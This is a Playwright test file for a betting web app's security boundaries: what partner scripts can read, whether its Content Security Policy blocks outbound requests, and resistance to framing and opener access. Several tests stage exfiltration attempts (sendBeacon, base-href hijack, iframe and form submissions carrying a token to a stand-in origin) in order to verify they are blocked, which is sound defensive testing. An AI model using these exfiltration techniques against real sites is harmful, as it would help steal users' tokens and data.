import type { Page } from "@playwright/test";
import { calm, expect } from "./fixture.ts";
import { demoSignIn } from "./player.ts";
import { all, askedOffTheList, linesOf, showingIn, test, withBet } from "./sectionShell.ts";
import { enter } from "./walk.ts";
import { sayMuch, waysOut } from "./sectionShellWays.ts";
import { storedLogs } from "./visitLog.ts";

test.use({ feed: calm });

test("code of a partner reads what the browser gives to every script, and that opens nothing elsewhere", async ({
  app,
  page,
  origin,
}) => {
  await withBet(page, app);
  const show = showingIn(page, origin);
  expect(await show(["walker"])).toEqual(all(["walker"], "shown"));
  // Once as code to evaluate, once when it is mounted and has its context.
  await expect.poll(() => origin.found.length).toBe(2);
  const found = origin.found.join("\n");
  expect(found).toContain("window.__context.instanceId=");

  const cookies = await page.context().cookies();
  const session = cookies.find(({ name }) => name === "session");
  expect(session?.httpOnly).toBe(true);
  const secrets = [session?.value ?? "no session", demoSignIn.password, "§personal", "§secret"];
  const ofLog = ["AppStarted", "RouteEntered", "SectionWanted", "touchline-log"];
  for (const word of [...secrets, ...ofLog]) expect(found).not.toContain(word);

  // Everything it can read: listed here so that a new name is reviewed before it is added.
  const readable = /^cookie=(.*)$/m.exec(found)?.[1] ?? "";
  const names = (pattern: RegExp) =>
    Array.from(new Set(Array.from(found.matchAll(pattern), ([, name]) => name))).sort();
  expect(
    readable
      .split("; ")
      .map((one) => one.replace(/=.*/, ""))
      .sort(),
  ).toEqual(["cookies_agree_type", "ggru", "grant", "has_session", "user_token"]);
  // The log's visit id and the counters identify nobody. Both appear some time after the page is idle.
  const comeLater = ["tl.logOwner", "tl.metrics"];
  // Nothing reminds of a coupon that is open beside the page.
  const stored = names(/^(?:local|session)Storage\.(.+?)=/gm);
  expect(stored.filter((name = "") => !comeLater.includes(name))).toEqual([
    "tl.coupon",
    "tl.lastActiveAt",
  ]);
  const globals = await page.evaluate(() => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    const usual = new Set(Reflect.ownKeys(frame.contentWindow ?? {}));
    frame.remove();
    return Reflect.ownKeys(window)
      .filter((key) => !usual.has(key))
      .map(String);
  });
  // The operator's own fingerprint script loads at some time when the page is idle.
  const ofOthers = /^(?:__(?:context|calls|playwright)|TouchlineFingerprint$)/;
  expect(globals.filter((name) => !ofOthers.test(name)).sort()).toEqual([
    "TouchlineShell",
    "__reactRouterVersion",
  ]);

  // Code is given the nonce; nothing else finds it.
  const nonce = /^window\.__context\.nonce=(.+)$/m.exec(found)?.[1] ?? "no nonce";
  expect(await page.evaluate(() => new XMLSerializer().serializeToString(document))).not.toContain(
    nonce,
  );

  // The token is where scripts can read it [session-003], but is useless without the session, which they
  // cannot read.
  const token = /user_token=([^;\s]+)/.exec(readable)?.[1] ?? "";
  expect(token.split(".")).toHaveLength(3);
  for (const path of ["/web-api/user/balance", "/web-api/bets/history?limit=1"]) {
    const headers = { Authorization: `Bearer ${token}`, Cookie: readable };
    const answer = await fetch(app.url + path, { headers });
    expect([path, answer.status]).toEqual([path, 401]);
  }
});

/** Written by the app itself in its own time: the last activity, and measures that wait to be sent. */
const inItsOwnTime = ["tl.lastActiveAt", "tl.metrics"];

/** What the player sees, except clocks, and what the browser stores. */
const stateOf = (page: Page) =>
  page.evaluate(
    (without) => ({
      path: location.pathname,
      title: document.title,
      text: document.getElementById("root")?.innerText.replace(/\d\d:\d\d(?::\d\d)?/g, ""),
      cookies: document.cookie,
      kept: Object.entries(localStorage).filter(([key]) => !without.includes(key)),
    }),
    inItsOwnTime,
  );

test("nothing in the page reaches an origin off the list, reports of it hide what addresses hid, and messages change neither state nor log", async ({
  app,
  page,
  origin,
}) => {
  await withBet(page, app);
  const show = showingIn(page, origin);
  expect(await show(["good-module"])).toEqual(all(["good-module"], "shown"));
  // The foot of the page comes once it is at rest, and the most that can be bet when the server has said it.
  await expect(page.getByRole("contentinfo").getByRole("link").first()).toBeAttached();
  await expect(page.getByRole("button", { name: /^Max \S/ })).toBeAttached();
  const before = await stateOf(page);
  await page.evaluate(() => {
    Reflect.set(window, "heard", 0);
    window.addEventListener("message", () => {
      Reflect.set(window, "heard", Reflect.get(window, "heard") + 1);
    });
    document.body.append(document.createElement("iframe"));
  });
  await page.evaluate(`(${sayMuch})(window, "canary-of-messages")`);
  // A frame of another origin cannot exist here, so this one is closer than any could be.
  await page.frames()[1]?.evaluate(`(${sayMuch})(parent, "canary-of-messages")`);
  await expect.poll(() => page.evaluate(() => Reflect.get(window, "heard"))).toBe(2_000);
  expect(await stateOf(page)).toEqual(before);

  await enter(page, "/en/top-events?code=canary-of-page");
  await page.evaluate(() => {
    const reports: unknown[] = [];
    Reflect.set(window, "reports", reports);
    const keep = (list: unknown) => reports.push(...JSON.parse(JSON.stringify(list)));
    new ReportingObserver(keep).observe();
  });
  expect(await page.evaluate(waysOut, `${origin.other}/found?token=canary-of-target`)).toEqual([]);

  // These have no way to report their outcome.
  await page.evaluate((evil) => {
    navigator.sendBeacon(evil, "x");
    const base = document.head.appendChild(document.createElement("base"));
    base.href = evil;
    document.body.appendChild(document.createElement("iframe")).src = evil;
    const form = document.body.appendChild(document.createElement("form"));
    form.action = evil;
    form.target = document.body.appendChild(document.createElement("iframe")).name = "evil";
    form.submit();
  }, `${origin.other}/found?token=canary-of-target`);
  const reports = async () =>
    (await page.evaluate(() => Reflect.get(window, "reports"))) as {
      readonly body: { readonly effectiveDirective: string };
    }[];
  const stopped = async () =>
    Array.from(new Set((await reports()).map(({ body }) => body.effectiveDirective)));
  await expect
    .poll(stopped)
    .toEqual(
      expect.arrayContaining([
        "base-uri",
        "connect-src",
        "font-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "require-trusted-types-for",
        "script-src-elem",
        "style-src-elem",
        "trusted-types",
      ]),
    );
  expect(askedOffTheList(origin)).toEqual([]);
  expect(await page.evaluate(() => document.baseURI)).toContain(app.url);

  // Browsers send them only over https, and a minute later: the page's own are sent here as they would be.
  const body = JSON.stringify(await reports());
  expect(body).toContain("canary-of-target");
  expect(body).toContain("canary-of-page");
  const sent = await page.request.post("/web-api/diagnostics/csp-reports", {
    headers: { "Content-Type": "application/reports+json", Origin: app.url },
    data: body,
  });
  expect(sent.status()).toBe(204);
  const kept = await (await page.request.get("/__reports")).text();
  expect(kept).toContain(`"blocked":"${origin.other}/found"`);
  expect(kept).not.toContain("canary");

  await enter(page, "/en/section/live");
  await expect
    .poll(() => linesOf(page, "RouteEntered"))
    .toContainEqual(expect.stringContaining("/section/live"));
  expect((await storedLogs(page)).flat().join("")).not.toContain("canary-of-messages");
});

test("a page that opens the app has no handle on it, and no page can frame it", async ({
  app,
  context,
  origin,
}) => {
  origin.serve("topEvents", "good-module");
  const strange = await context.newPage();
  await strange.goto(`${origin.other}/nothing`);
  const opening = context.waitForEvent("page");
  await strange.evaluate((url) => {
    Reflect.set(window, "opened", window.open(url));
  }, `${app.url}/en/top-events`);
  const opened = await opening;
  await expect(opened.locator(".place")).toBeVisible();
  await opened.evaluate(() => {
    window.addEventListener("message", () => document.body.classList.add("heard"));
  });
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  await strange.evaluate(`(${sayMuch})(opened, "canary-of-messages")`);
  expect(await strange.evaluate(() => Reflect.get(window, "opened").closed)).toBe(true);
  await expect(opened.locator(".place")).toBeVisible();
  await expect(opened.locator("body.heard")).toHaveCount(0);

  const framed = await strange.evaluate(async (url) => {
    const frame = document.createElement("iframe");
    const come = new Promise((done) => frame.addEventListener("load", done));
    frame.src = url;
    document.body.append(frame);
    await come;
    return frame.contentDocument === null;
  }, `${app.url}/en`);
  expect(framed).toBe(true);
  const [, frame] = strange.frames();
  expect(frame?.url()).toBe("chrome-error://chromewebdata/");
  expect(await frame?.evaluate(() => document.getElementById("root"))).toBeNull();
});
